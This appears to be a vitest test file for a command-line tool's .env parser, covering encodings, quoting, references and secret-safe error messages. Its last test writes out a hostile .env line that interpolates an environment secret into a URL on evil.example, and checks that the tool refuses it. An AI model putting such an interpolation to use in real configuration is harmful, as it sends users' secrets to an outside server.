import { mkdtempSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { describe, expect, it } from 'vitest'
import { standBetween } from '../cli/between.ts'
import { cliFixture } from '../cli/cli-fixture.ts'

const on = cliFixture()

/** Puts this in a `.env` of its own folder, and runs a command there with nothing in its environment. */
async function beside(content: string | Uint8Array, args: readonly string[], environment: NodeJS.ProcessEnv = {}) {
  const folder = mkdtempSync(join(on.home, 'beside-'))
  writeFileSync(join(folder, '.env'), content, { mode: 0o600 })
  const { PATH, HOME, LANG } = on.env
  return await on.run(args, { env: { PATH, HOME, LANG, ...environment }, cwd: folder })
}

/** The lines of a file that is right, as a program writes them. */
function lines(write = (name: string, value: string) => `${name}=${value}`): string[] {
  const { PATH: _, HOME: __, LANG: ___, XDG_STATE_HOME: ____, ...variables } = on.env
  return Object.entries(variables).map(([name, value]) => write(name, value ?? ''))
}

const utf16 = (content: string) => Buffer.from(content, 'utf16le')

describe('a .env that Python programs read too', () => {
  it.each<[string, () => string | Uint8Array]>([
    ['with a byte-order mark (deno#36702, bun#34002, dotenv#1041)', () => `\ufeff${lines().join('\n')}`],
    ['in UTF-16, as PowerShell writes it', () => utf16(`\ufeff${lines().join('\r\n')}\r\n`)],
    ['in UTF-16 without a mark', () => utf16(lines().join('\r\n'))],
    ['in UTF-16, big endian', () => utf16(`\ufeff${lines().join('\n')}`).swap16()],
    ['with CRLF', () => lines().join('\r\n')],
    ['with lone CR', () => lines().join('\r')],
    ['with export and spaces', () => lines((name, value) => `  export ${name} = ${value}  `).join('\n')],
    ['with quotes and comments (node#51508)', () => lines((name, value) => `${name}="${value}" # it's so`).join('\n')],
    [
      'with references',
      () => `A_B=http\n${lines((name, value) => `${name}=${value.replace(/^http/, '$' + '{A_B}')}`).join('\n')}`,
    ],
    ['with lines of no interest', () => `---\nsource venv/bin/activate\n${lines().join('\n')}\nA="open\n`],
  ])('%s', async (_, content) => {
    await on.issued(3)
    expect(await beside(content(), ['status', '--quiet'])).toMatchObject({ code: 0, stdout: '', stderr: '' })
  })

  it.each([
    ['abc#123', 'abc#123'],
    ['abc #c', 'abc'],
    ['"a\\"b#1\\\\"', 'a"b#1\\'],
    ["'a\\'b $x'", "a'b $x"],
    ['pa$$w0rd`', 'pa$$w0rd`'],
  ])('a password is read to the letter: %s (huggingface_hub#4750, node#52084)', async (written, password) => {
    let sent: unknown
    const between = await standBetween(on.sandbox.connection.supabaseUrl, async (incoming) => {
      if (!incoming.url?.startsWith('/auth/v1/token')) return undefined
      sent = JSON.parse(await text(incoming)).password
      return { status: 400, headers: { 'content-type': 'application/json' }, body: '{"code":"invalid_credentials"}' }
    })
    const given = { SUPABASE_PASSWORD: written, SUPABASE_URL: between.url }
    const content = lines((name, value) => `${name}=${{ [name]: value, ...given }[name]}`).join('\n')
    await beside(content, ['status'])
    await between.close()
    expect(sent).toBe(password)
  })

  it.each<[string, (secret: string) => string | Uint8Array, string]>([
    ['an open quotation mark', (secret) => `# mine\nSUPABASE_KEY="${secret}\n`, 'Line 2 of the file'],
    ['a line added in another encoding', (secret) => `A=1\nSUPABASE_KEY=${secret}\n\0B\0=\n`, 'NUL bytes'],
  ])('a line that cannot be read is named, and its value is not: %s', async (_, content, words) => {
    const secret = on.sandbox.connection.supabaseSecretKey
    for (const command of ['status', 'doctor']) {
      const { code, stdout, stderr } = await beside(content(secret), [command])
      expect(code).toBe(5)
      expect(`${stdout}${stderr}`).toContain(words)
      expect(`${stdout}${stderr}`).toContain('.env')
    }
  })

  it('a folder’s .env cannot send what the environment holds to its own server', async () => {
    const content = `SUPABASE_URL=https://evil.example/${'$'}{SECRET}\nSUPABASE_KEY=a\n`
    const { code, stderr } = await beside(content, ['status'], { SECRET: 'a-b-c' })
    expect(code).toBe(5)
    expect(stderr).toContain('Line 1 of the file')
    expect(stderr).not.toContain('a-b-c')
  })
})
